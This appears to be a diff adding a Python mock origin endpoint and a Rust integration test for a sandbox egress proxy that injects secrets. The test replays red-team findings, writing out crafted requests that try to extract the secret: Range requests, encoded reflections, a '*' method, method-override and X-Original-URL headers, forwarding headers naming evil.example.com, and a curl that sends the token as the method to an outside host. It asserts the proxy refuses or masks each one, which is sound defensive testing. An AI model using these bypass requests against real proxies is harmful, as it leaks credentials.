@@ -40,6 +40,19 @@ class H(http.server.BaseHTTPRequestHandler):
             return self.text(200, "OK", [("X-Stored", auth[0] if auth else "-")], out)
         if self.path.startswith("/v1/enc/"):
             return self.encoded()
+        if self.path.startswith("/v1/partial"):
+            # A 206 whatever was asked: the first bytes of the Authorization.
+            auth = (self.headers.get("Authorization") or "-").encode()
+            print("origin partial range=%s" % self.headers.get("Range"), flush=True)
+            return self.text(206, "Partial Content", [("Content-Range", "bytes 0-9/%d" % len(auth))], auth[:10])
+        if self.path.startswith("/v1/quote"):
+            # The token urllib-quoted (safe '/'), quote_plus'ed, and escaped
+            # as Go's html/template writes an attribute.
+            import urllib.parse
+            tok = (self.headers.get("Authorization") or "- -").split(" ", 1)[1]
+            go = "".join({"&": "&amp;", "+": "&#43;", "=": "&#61;", "<": "&lt;", ">": "&gt;", '"': "&#34;", "'": "&#39;", " ": "&#32;"}.get(c, c) for c in tok)
+            out = "quote=%s\nplus=%s\ngo=%s\n" % (urllib.parse.quote(tok), urllib.parse.quote_plus(tok), go)
+            return self.text(200, "OK", [], out.encode())
         if self.path.startswith("/v1/reason"):
             # Reflects headers in the reason phrase and a header name.
             print("origin reason %s" % self.headers.get("Authorization"), flush=True)
@@ -752,6 +765,121 @@ TOKEN=$T "$SANDBOX" run -q --upstream-ca "$D/ca.pem" --secret TOKEN@api.example.
         log.contains("Authorization: Basic bWU6cmVhbC1zZWNyZXQtdmFsdWUtNDI="),
         "{log}"
     );
+}
+
+/// Red-team findings 2, 4, 5, 6 and the INFO item, root and nobody, each
+/// beside its twin: with a secret, `Range` never reaches the origin and a
+/// 206 is answered 502 (without secrets both pass); the value quoted by
+/// Python's `quote` and `quote_plus` and escaped as Go's html/template
+/// writes it comes back masked; a method `*` is refused 400 with no rule
+/// proposed where `GET` passes; an override header naming a method the
+/// rules do not admit is refused 403 where one naming an admitted method
+/// passes; forwarding headers are dropped, another header kept; the
+/// placeholder as the method is refused as exfiltration, intercepted and on
+/// the plain relay.
+#[test]
+fn ranges_overrides_methods_and_encodings_are_checked_beside_their_twins() {
+    let script = r#"
+T="real/secret+valu""e=42&x y"
+RULES="--allow-request 'GET,HEAD https://api.example.com:8443/v1/**' --allow-request 'GET https://pkgs.example.com:8443/simple/**' --allow-net other.example.com:8080"
+INNER='A=https://api.example.com:8443
+curl -sS -i -r 0-9 -H "Authorization: Bearer $TOKEN" $A/v1/reflect | grep -a "^Authorization\|^Range\|^HTTP" | sed "s/^/$W range /"
+curl -sS -i -H "Authorization: Bearer $TOKEN" $A/v1/partial | sed "s/^/$W partial /"
+curl -sS -H "Authorization: Bearer $TOKEN" $A/v1/quote | sed "s/^/$W quote /"
+python3 "$RAW" "* /simple/a HTTP/1.1\r\nHost: pkgs.example.com:8443\r\n\r\n" "$W star"
+python3 "$RAW" "GET /simple/a HTTP/1.1\r\nHost: pkgs.example.com:8443\r\n\r\n" "$W star twin"
+python3 "$RAW" "GET /simple/a HTTP/1.1\r\nHost: pkgs.example.com:8443\r\nX-HTTP-Method-Override: DELETE\r\n\r\n" "$W override"
+python3 "$RAW" "GET /simple/a HTTP/1.1\r\nHost: pkgs.example.com:8443\r\nX-Original-URL: /private\r\n\r\n" "$W original url"
+curl -sS -H "X-HTTP-Method-Override: HEAD" -H "X-Original-URL: /v1/b" -H "X-Forwarded-Host: evil.example.com" -H "Forwarded: host=evil.example.com" -H "X-Host: evil.example.com" -H "X-Keep: kept" $A/v1/reflect | sed "s/^/$W headers /"
+curl -sS -X "$TOKEN" $A/v1/method | sed "s/^/$W method /"
+curl -sS -X "$TOKEN" http://other.example.com:8080/p | sed "s/^/$W plain method /"
+curl -sS http://other.example.com:8080/p | sed "s/^/$W plain twin /"'
+eval "TOKEN=\"\$T\" W=root \"$SANDBOX\" run -q --upstream-ca \"$D/ca.pem\" --secret TOKEN@api.example.com $RULES -- sh -c \"\$INNER\""
+cd "$D" && eval "TOKEN=\"\$T\" W=nobody $NOBODY \"$SANDBOX\" run -q --upstream-ca \"$D/ca.pem\" --secret TOKEN@api.example.com $RULES -- sh -c \"\$INNER\""
+"$SANDBOX" run -q --upstream-ca "$D/ca.pem" --allow-request 'GET https://api.example.com:8443/v1/**' -- sh -c 'curl -sS -i -r 0-9 https://api.example.com:8443/v1/reflect | grep -a "^Range\|^HTTP" | sed "s/^/no secrets range /"; curl -sS -i https://api.example.com:8443/v1/partial | sed "s/^/no secrets partial /"'
+"#;
+    let (out, d) = in_private_net(script);
+    let l = lines(&out);
+    eprintln!("{}", String::from_utf8_lossy(&out.stderr));
+    let log = std::fs::read_to_string(d.path().join("origin.log")).unwrap_or_default();
+    for who in ["root", "nobody"] {
+        // Finding 2: no Range reached the origin; its 206 is refused.
+        has(&l, &format!("{who} range HTTP/1.1 200 OK"));
+        has(&l, &format!("{who} range Authorization: Bearer *****"));
+        assert!(
+            !l.iter()
+                .any(|x| x.starts_with(&format!("{who} range Range"))),
+            "{l:#?}"
+        );
+        has(&l, &format!("{who} partial HTTP/1.1 502 Bad Gateway"));
+        has(&l, &format!("{who} partial sandbox egress proxy: refused the response to GET https://api.example.com:8443/v1/partial: the origin answered 206 Partial Content while the run has secrets"));
+        // Finding 6: every line masked whole.
+        for form in ["quote", "plus", "go"] {
+            let line = l
+                .iter()
+                .find(|x| x.starts_with(&format!("{who} quote {form}=")))
+                .unwrap_or_else(|| panic!("{form}: {l:#?}"));
+            assert!(
+                line.trim_start_matches(&format!("{who} quote {form}="))
+                    .bytes()
+                    .all(|b| b == b'*'),
+                "{line}"
+            );
+        }
+        // Finding 4.
+        has(&l, &format!("{who} star HTTP/1.1 400 Bad Request"));
+        has(&l, &format!("{who} star twin HTTP/1.1 200 OK"));
+        // Finding 5.
+        has(&l, &format!("{who} override HTTP/1.1 403 Forbidden"));
+        has(&l, &format!("{who} original url HTTP/1.1 403 Forbidden"));
+        has(&l, &format!("{who} headers X-Keep: kept"));
+        has(&l, &format!("{who} headers X-HTTP-Method-Override: HEAD"));
+        assert!(
+            !l.iter().any(|x| x.starts_with(&format!("{who} headers"))
+                && (x.contains("evil") || x.contains("Forwarded"))),
+            "{l:#?}"
+        );
+        // INFO: the placeholder as the method.
+        has(
+            &l,
+            &format!("{who} method sandbox egress proxy: refused SANDBOX_SECRET_"),
+        );
+        has(
+            &l,
+            &format!("{who} plain method sandbox egress proxy: refused"),
+        );
+        assert!(
+            l.iter()
+                .any(|x| x.starts_with(&format!("{who} plain method"))
+                    && x.contains("attempted exfiltration")),
+            "{l:#?}"
+        );
+        // Its twin goes on to the origin (nothing listens there).
+        has(
+            &l,
+            &format!(
+                "{who} plain twin sandbox egress proxy: cannot connect to other.example.com:8080"
+            ),
+        );
+    }
+    assert!(
+        !l.iter().any(
+            |x| ["real/", "real%2", "real&#", "secret+", "secret%2", "42&x", "42%26"]
+                .iter()
+                .any(|v| x.contains(v))
+        ),
+        "{l:#?}"
+    );
+    assert!(!log.contains("origin partial range=bytes"), "{log}");
+    // Only the run without secrets asked for a range.
+    assert_eq!(log.matches("Range: bytes").count(), 1, "{log}");
+    assert!(
+        !log.contains("/private") && !log.contains("SANDBOX_SECRET_"),
+        "{log}"
+    );
+    // The twins without secrets: the range reaches the origin, its 206 the client.
+    has(&l, "no secrets range Range: bytes=0-9");
+    has(&l, "no secrets partial HTTP/1.1 206 Partial Content");
 }
 
 /// Whether `text` holds `value` once read as base64 (either alphabet,
